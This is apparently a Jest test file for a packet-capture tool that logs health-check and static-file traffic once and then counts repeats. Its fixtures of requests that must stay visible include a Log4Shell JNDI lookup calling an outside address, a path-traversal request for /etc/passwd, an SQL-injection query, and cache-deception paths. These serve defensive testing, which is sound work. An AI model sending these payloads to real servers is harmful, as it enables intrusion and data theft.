import { describe, expect, test } from '@jest/globals';
import { requires } from '../../kit/requires.js';
import { answer, overhear, type Spoken, total } from './wire/spoken.js';

const silence = { kinds: new Set(['health', 'static'] as const), paths: new Set(['/internal/beat']) };
const typed = (type: string, headers = '', status = '200 OK', body = 'body{}') =>
  `HTTP/1.1 ${status}\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n${headers}\r\n${body}`;
const get = (path: string, headers = '') => `GET ${path} HTTP/1.1\r\nHost: shop.test\r\n${headers}\r\n`;
const css = typed('text/css', 'Cache-Control: public, max-age=600\r\n');
const png = typed('image/png');

/** The same call three times, a second apart. */
const thrice = (asked: string, answered: string): Spoken[] =>
  [0, 1, 2].map((at) => ({ at, turns: [asked, answered] }));

const quiet: readonly (readonly [string, string, string])[] = [
  ['a probe', get('/healthz'), answer('{"status":"UP"}')],
  ['a probe under its API', get('/api/v1/health'), answer()],
  ['a probe of a load balancer', get('/', 'User-Agent: ELB-HealthChecker/2.0\r\n'), answer()],
  ['a probe of one’s own', get('/internal/beat'), answer()],
  ['a style sheet', get('/assets/app.3f2a91c4.css?v=12', 'Cookie: session=abc\r\n'), css],
  ['a picture', get('/img/logo.png'), png],
  ['a script that has not changed', get('/js/app.js'), 'HTTP/1.1 304 Not Modified\r\n\r\n'],
];

const loud: readonly (readonly [string, string, string])[] = [
  ['a probe that fails', get('/healthz'), answer('{}', '', '503 Down')],
  ['a probe with an identity', get('/healthz', 'Authorization: Bearer abcdefghijkl\r\n'), answer()],
  ['a probe that is attacked', get('/healthz', 'User-Agent: ${jndi:ldap://198.51.100.9/a}\r\n'), answer()],
  ['a probe with a query', get('/health?full=1'), answer()],
  [
    'somebody who says to be a load balancer',
    get('/orders/17', 'User-Agent: ELB-HealthChecker/2.0\r\n'),
    answer(),
  ],
  ['a page that only ends like a file (a cache is deceived)', get('/account/x.css'), typed('text/html')],
  ['data that only ends like a file', get('/orders.js'), answer()],
  ['a picture of somebody', get('/users/17/avatar.png'), png],
  ['a picture for a token', get('/img/invoice.png', 'Authorization: Bearer abcdefghijkl\r\n'), png],
  ['a picture that nobody may keep', get('/img/scan.png'), typed('image/png', 'Cache-Control: private\r\n')],
  ['a file that begins a session', get('/css/a.css'), typed('text/css', 'Set-Cookie: session=abc\r\n')],
  ['a file that is not there', get('/css/b.css'), typed('text/css', '', '404 Not Found')],
  ['a way up', get('/css/../../etc/passwd.css'), css],
  ['an attack on a file', get("/css/c.css?v='or'1'='1"), css],
  [
    'what is sent to a probe',
    'POST /healthz HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 2\r\n\r\nhi',
    answer(),
  ],
];

requires('suricata')('health checks and static files in a capture', () => {
  describe('are told once, and the rest is counted', () => {
    test('each kind, whatever it was asked with', async () => {
      const heard = await overhear(
        quiet.flatMap(([, asked, answered]) => thrice(asked, answered)),
        { silence },
      );
      expect(heard.calls).toHaveLength(quiet.length);
      expect(total(heard, 'transactions')).toBe(quiet.length * 3);
      expect(total(heard, 'silenced')).toBe(quiet.length * 2);
      expect(total(heard, 'unpaired')).toBe(0);
    }, 60_000);

    test('again when an hour has passed, so that a route that is in use never looks idle', async () => {
      const [, asked, answered] = quiet[0] as (typeof quiet)[number];
      const heard = await overhear(
        [0, 60, 3_599, 3_601, 3_700].map((at) => ({ at, turns: [asked, answered] })),
        { silence },
      );
      expect(heard.calls).toHaveLength(2);
      expect(total(heard, 'silenced')).toBe(3);
    }, 60_000);
  });

  test('never hide what fails, is personal, is attacked, or only looks like them', async () => {
    const heard = await overhear(
      loud.flatMap(([, asked, answered]) => thrice(asked, answered)),
      { silence },
    );
    expect(heard.calls).toHaveLength(loud.length * 3);
    expect(total(heard, 'silenced')).toBe(0);
  }, 60_000);

  test('are told every time when nobody asked for silence', async () => {
    const heard = await overhear(quiet.flatMap(([, asked, answered]) => thrice(asked, answered)));
    expect(heard.calls).toHaveLength(quiet.length * 3);
  }, 60_000);
});
